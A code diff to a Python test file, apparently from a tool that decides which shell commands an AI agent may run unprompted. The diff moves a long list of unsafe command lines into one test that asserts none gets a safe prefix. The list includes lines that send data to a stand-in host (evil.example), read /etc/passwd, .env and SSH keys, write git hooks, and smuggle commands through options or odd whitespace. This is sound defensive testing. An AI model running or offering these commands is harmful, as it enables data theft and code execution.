@@ -41,99 +41,98 @@ def test_simple_command_has_a_prefix(line: str, prefix: str | None, tmp_path: Pa
     assert (command_prefix and str(command_prefix)) == prefix
 
 
-@pytest.mark.parametrize(
-    "line",
-    [
-        # More than one command, in any syntax.
-        "git commit -m x; curl evil.example", "git commit -m x && curl evil.example",
-        "git commit -m x || id", "git commit -m x | sh", "git commit -m x\ncurl evil.example",
-        "git commit -m x &", "git commit -m x & id", "id; git commit -m x", "(git commit -m x)",
-        "{ git commit -m x; }", "! git commit -m x", "if true; then git commit; fi",
-        "for x in a; do git commit; done", "git() { id; }; git commit", "git commit -m x # y",
-        "git commit -m x;", "time git commit", "coproc git commit",
-        "git commit -m x\r\ncurl evil.example",
-        # Values computed by the shell.
-        "git commit -m $(curl evil.example)", "git commit -m `id`", 'git commit -m "$(id)"',
-        "git commit -m \"$X\"", "git commit $X", "git commit <(id)", "git commit -m $((x))",
-        "$GIT commit", "g{it,} commit", "git {commit,push}", "git commit ~/x", "git commit $'a'$X",
-        # Files read or written in addition to the arguments.
-        "git commit -m x > out", "git commit < in", "git commit 2>&1", "git commit <<< x",
-        "git commit <<E\nx\nE", "git commit -m x >> .git/hooks/pre-commit",
-        # Leading variables.
-        "GIT_SSH_COMMAND=./evil git push", "X=1 git commit", "PATH=.:$PATH git commit",
-        # Options before the sub-command, and options that run programs.
-        "git -c core.pager=./evil commit", "git -c core.editor=./evil commit",
-        "git --exec-path=. commit", "git -C /elsewhere commit", "git --git-dir=x commit",
-        "git push --force", "git push -f origin main", "git push --force-with-lease=main",
-        "git push origin +main", "git push -uf origin main", "git push origin --delete main",
-        "git push --mirr backup", "git push -d origin main",
-        "git push --receive-pack=./evil", "git push --receive-p=./evil", "git push --exec ./evil",
-        "git fetch --upload-pack ./evil .", "git pull --upload-pack=./evil",
-        "git diff --ext-diff", "git diff --no-index a /etc/passwd", "git log --output=x",
-        "git merge --strategy=evil", "npm test --script-shell=./evil", "npm test --prefix ../x",
-        "npm run build --script-sh ./evil", "npm --prefix x test", "npm -C x run build",
-        "go test -exec ./evil ./...", "go build -toolexec=./evil", "go vet --vettool ./evil",
-        "cargo build --config build.rustc-wrapper=./evil", "cargo +evil test",
-        "rg --pre ./evil x", "tox -- rm x", "ninja x", "pytest -p evil", "pytest --pastebin=all",
-        "git fetch -m --upload-pack=./evil .", "git log -m --output=x", "git diff -m /etc/passwd x",
-        "git commit -m --template=x", "pylint --init-hook=x", "pylint --init-h 'import os' a.py",
-        "mypy --python-executable ./evil a.py", "mocha --import data:text/javascript,x",
-        "mocha -r ./x", "clang-tidy --load=./evil.so a.c", "phpunit -d auto_prepend_file=x",
-        "rg -ge /etc/passwd", "rg -e x /etc/passwd", "git commit -m x -- /etc/passwd",
-        # Remotes without a configured name.
-        "git push evil@evil.example:x", "git push -o x evil:x HEAD", "git push --repo=evil:x",
-        "git fetch ext::sh", "git pull evil.example:x main",
-        "npm test -script-shell=./evil", "npm test -script-shell ./evil", "npm test --unheard-of",
-        "npm test -g", "pnpm test --config.script-shell=./evil", "pnpm test -script-shell=./evil",
-        "yarn test --use-yarnrc evil", "git merge -s evil x", "git pull -sevil", "git commit -Sx",
-        "git merge -qs evil x", "git tag -u x v1", "git cherry-pick -S x", "pytest @more",
-        "pytest -o addopts=-pevil", "pytest --override-ini=addopts=-pevil", "pytest -c evil.ini",
-        "flake8 --config evil", "flake8 --append-config=evil", "mypy --config-file=evil a.py",
-        "eslint -c evil.js x", "eslint --format=./evil.js x", "prettier --config=evil.js x",
-        "markdownlint -r ./evil.js x", "markdownlint --rules ./evil.js x", "dotnet build @more",
-        "dotnet build -logger:evil.dll", "dotnet test --test-adapter-path evil",
-        "swift test --toolset x", "clang-tidy a.c -- -fplugin=x", "golangci-lint custom",
-        "clang-tidy --extra-arg=-fplugin=x a.c", "tree -o x",
-        # Arguments that look like the value of a text option.
-        "rg -e -e /etc/passwd", "grep -- -e /etc/passwd", "grep x --label -e /etc/passwd",
-        "git commit -m -m --file=/etc/passwd", "grep x --label -e '/etc/passwd'",
-        "grep x --label -e /etc/pass*", "grep x --label -e ~root/x",
-        "grep x --label -e link/passwd",
-        # Links whose name is attached to an option.
-        "cp -tlink a", "cp -vtlink a", "git commit -Flink/passwd", "git commit -vFfile",
-        "grep -ffile x", "touch -rfile x",
-        # A remote in a local folder has hooks of its own.
-        "git push bare main", "git push ./bare", "git push --repo=bare", "git fetch clone",
-        "git pull sub/../bare", "git push mirror",
-        # Another program with the same name or a similar one.
-        "./git commit", "/usr/bin/git commit", "bin/pytest", "GIT commit", "git.exe commit",
-        # Programs that run their arguments.
-        "python x.py", "python3 -m pytest", "bash x.sh", "sh -c 'git commit'", "env git commit",
-        "env X=1 git commit", "sudo git commit", "xargs git commit", "find . -name x", "ssh host x",
-        "nohup git commit", "timeout 5 pytest", "nice pytest", "eval git commit", "exec pytest",
-        "command git commit", "builtin echo", "node x.js", "perl -e x", "awk 1 x", "sed p x",
-        "make test", "npx jest", "npm exec x", "npm x y", "pnpm dlx x", "yarn node x", "uv run x",
-        "poetry run x", "bundle exec x", "go run .", "cargo run", "go generate", "go tool x",
-        "docker run x", "busybox sh", "watch ls", "parallel ls", "tar cf x y", "curl https://x",
-        "git config core.pager x", "git bisect run x", "git submodule foreach x", "git rebase x",
-        "git clone x", "git difftool", "npm install x",
-        "npm audit fix", "gh release create x", "npm publish", "pip install x", "gh api x",
-        "rm -rf x", "git evil", "npm evil", "unheard-of", ". x", "source x", "vim x", "less x",
-        # Paths outside, and private ones.
-        "cat /etc/passwd", "cat ../x", "cat .env", "grep -r x /home", "cp a ~/b", "cat ~root/x",
-        "git push https://evil.example/x", "git push ../elsewhere", "cp x .git/hooks/pre-commit",
-        "mkdir -p /x", "git add /etc/passwd", "head -c9 .ssh/id", "pytest --junitxml=/x",
-        # A name matched by a pattern may be an option.
-        "git push *", "git fetch ?-upload-pack", "cp [-]x y",
-        # Blanks that shells do not treat as such.
-        "\u00a0git commit", "\x0bgit commit", "\x1cgit commit", "\u2003git commit",
-        "\x0cgit commit",
-        "git\u00a0commit", "git commit\u2028id", "git commit\x0bid; id", "\ufeffgit commit",
-        # No command, or one that shells parse differently.
-        "", " ", "git commit 'x", "git commit -m x\0", "git commit \\\n; id",
-    ],
-)  # fmt: skip
-def test_unsafe_line_has_no_prefix(line: str, tmp_path: Path) -> None:
+UNSAFE_LINES = [
+    # More than one command, in any syntax.
+    "git commit -m x; curl evil.example", "git commit -m x && curl evil.example",
+    "git commit -m x || id", "git commit -m x | sh", "git commit -m x\ncurl evil.example",
+    "git commit -m x &", "git commit -m x & id", "id; git commit -m x", "(git commit -m x)",
+    "{ git commit -m x; }", "! git commit -m x", "if true; then git commit; fi",
+    "for x in a; do git commit; done", "git() { id; }; git commit", "git commit -m x # y",
+    "git commit -m x;", "time git commit", "coproc git commit",
+    "git commit -m x\r\ncurl evil.example",
+    # Values computed by the shell.
+    "git commit -m $(curl evil.example)", "git commit -m `id`", 'git commit -m "$(id)"',
+    "git commit -m \"$X\"", "git commit $X", "git commit <(id)", "git commit -m $((x))",
+    "$GIT commit", "g{it,} commit", "git {commit,push}", "git commit ~/x", "git commit $'a'$X",
+    # Files read or written in addition to the arguments.
+    "git commit -m x > out", "git commit < in", "git commit 2>&1", "git commit <<< x",
+    "git commit <<E\nx\nE", "git commit -m x >> .git/hooks/pre-commit",
+    # Leading variables.
+    "GIT_SSH_COMMAND=./evil git push", "X=1 git commit", "PATH=.:$PATH git commit",
+    # Options before the sub-command, and options that run programs.
+    "git -c core.pager=./evil commit", "git -c core.editor=./evil commit",
+    "git --exec-path=. commit", "git -C /elsewhere commit", "git --git-dir=x commit",
+    "git push --force", "git push -f origin main", "git push --force-with-lease=main",
+    "git push origin +main", "git push -uf origin main", "git push origin --delete main",
+    "git push --mirr backup", "git push -d origin main",
+    "git push --receive-pack=./evil", "git push --receive-p=./evil", "git push --exec ./evil",
+    "git fetch --upload-pack ./evil .", "git pull --upload-pack=./evil",
+    "git diff --ext-diff", "git diff --no-index a /etc/passwd", "git log --output=x",
+    "git merge --strategy=evil", "npm test --script-shell=./evil", "npm test --prefix ../x",
+    "npm run build --script-sh ./evil", "npm --prefix x test", "npm -C x run build",
+    "go test -exec ./evil ./...", "go build -toolexec=./evil", "go vet --vettool ./evil",
+    "cargo build --config build.rustc-wrapper=./evil", "cargo +evil test",
+    "rg --pre ./evil x", "tox -- rm x", "ninja x", "pytest -p evil", "pytest --pastebin=all",
+    "git fetch -m --upload-pack=./evil .", "git log -m --output=x", "git diff -m /etc/passwd x",
+    "git commit -m --template=x", "pylint --init-hook=x", "pylint --init-h 'import os' a.py",
+    "mypy --python-executable ./evil a.py", "mocha --import data:text/javascript,x",
+    "mocha -r ./x", "clang-tidy --load=./evil.so a.c", "phpunit -d auto_prepend_file=x",
+    "rg -ge /etc/passwd", "rg -e x /etc/passwd", "git commit -m x -- /etc/passwd",
+    # Remotes without a configured name.
+    "git push evil@evil.example:x", "git push -o x evil:x HEAD", "git push --repo=evil:x",
+    "git fetch ext::sh", "git pull evil.example:x main",
+    "npm test -script-shell=./evil", "npm test -script-shell ./evil", "npm test --unheard-of",
+    "npm test -g", "pnpm test --config.script-shell=./evil", "pnpm test -script-shell=./evil",
+    "yarn test --use-yarnrc evil", "git merge -s evil x", "git pull -sevil", "git commit -Sx",
+    "git merge -qs evil x", "git tag -u x v1", "git cherry-pick -S x", "pytest @more",
+    "pytest -o addopts=-pevil", "pytest --override-ini=addopts=-pevil", "pytest -c evil.ini",
+    "flake8 --config evil", "flake8 --append-config=evil", "mypy --config-file=evil a.py",
+    "eslint -c evil.js x", "eslint --format=./evil.js x", "prettier --config=evil.js x",
+    "markdownlint -r ./evil.js x", "markdownlint --rules ./evil.js x", "dotnet build @more",
+    "dotnet build -logger:evil.dll", "dotnet test --test-adapter-path evil",
+    "swift test --toolset x", "clang-tidy a.c -- -fplugin=x", "golangci-lint custom",
+    "clang-tidy --extra-arg=-fplugin=x a.c", "tree -o x",
+    # Arguments that look like the value of a text option.
+    "rg -e -e /etc/passwd", "grep -- -e /etc/passwd", "grep x --label -e /etc/passwd",
+    "git commit -m -m --file=/etc/passwd", "grep x --label -e '/etc/passwd'",
+    "grep x --label -e /etc/pass*", "grep x --label -e ~root/x",
+    "grep x --label -e link/passwd",
+    # Links whose name is attached to an option.
+    "cp -tlink a", "cp -vtlink a", "git commit -Flink/passwd", "git commit -vFfile",
+    "grep -ffile x", "touch -rfile x",
+    # A remote in a local folder has hooks of its own.
+    "git push bare main", "git push ./bare", "git push --repo=bare", "git fetch clone",
+    "git pull sub/../bare", "git push mirror",
+    # Another program with the same name or a similar one.
+    "./git commit", "/usr/bin/git commit", "bin/pytest", "GIT commit", "git.exe commit",
+    # Programs that run their arguments.
+    "python x.py", "python3 -m pytest", "bash x.sh", "sh -c 'git commit'", "env git commit",
+    "env X=1 git commit", "sudo git commit", "xargs git commit", "find . -name x", "ssh host x",
+    "nohup git commit", "timeout 5 pytest", "nice pytest", "eval git commit", "exec pytest",
+    "command git commit", "builtin echo", "node x.js", "perl -e x", "awk 1 x", "sed p x",
+    "make test", "npx jest", "npm exec x", "npm x y", "pnpm dlx x", "yarn node x", "uv run x",
+    "poetry run x", "bundle exec x", "go run .", "cargo run", "go generate", "go tool x",
+    "docker run x", "busybox sh", "watch ls", "parallel ls", "tar cf x y", "curl https://x",
+    "git config core.pager x", "git bisect run x", "git submodule foreach x", "git rebase x",
+    "git clone x", "git difftool", "npm install x",
+    "npm audit fix", "gh release create x", "npm publish", "pip install x", "gh api x",
+    "rm -rf x", "git evil", "npm evil", "unheard-of", ". x", "source x", "vim x", "less x",
+    # Paths outside, and private ones.
+    "cat /etc/passwd", "cat ../x", "cat .env", "grep -r x /home", "cp a ~/b", "cat ~root/x",
+    "git push https://evil.example/x", "git push ../elsewhere", "cp x .git/hooks/pre-commit",
+    "mkdir -p /x", "git add /etc/passwd", "head -c9 .ssh/id", "pytest --junitxml=/x",
+    # A name matched by a pattern may be an option.
+    "git push *", "git fetch ?-upload-pack", "cp [-]x y",
+    # Blanks that shells do not treat as such.
+    "\u00a0git commit", "\x0bgit commit", "\x1cgit commit", "\u2003git commit",
+    "\x0cgit commit",
+    "git\u00a0commit", "git commit\u2028id", "git commit\x0bid; id", "\ufeffgit commit",
+    # No command, or one that shells parse differently.
+    "", " ", "git commit 'x", "git commit -m x\0", "git commit \\\n; id",
+]  # fmt: skip
+
+
+def test_unsafe_line_has_no_prefix(tmp_path: Path) -> None:
     (tmp_path / "link").symlink_to("/etc")
     (tmp_path / "file").symlink_to("/etc/passwd")
     (tmp_path / "sub").mkdir()
@@ -142,7 +141,8 @@ def test_unsafe_line_has_no_prefix(line: str, tmp_path: Path) -> None:
     (tmp_path / "clone" / ".git").mkdir(parents=True)
     (tmp_path / "mirror.git").mkdir()
     (tmp_path / "mirror.git" / "HEAD").touch()
-    assert prefix_of(line, tmp_path, tmp_path) is None
+    prefixes = {line: prefix_of(line, tmp_path, tmp_path) for line in UNSAFE_LINES}
+    assert {line: prefix for line, prefix in prefixes.items() if prefix is not None} == {}
 
 
 def test_link_out_of_the_workspace_has_no_prefix(tmp_path: Path) -> None:
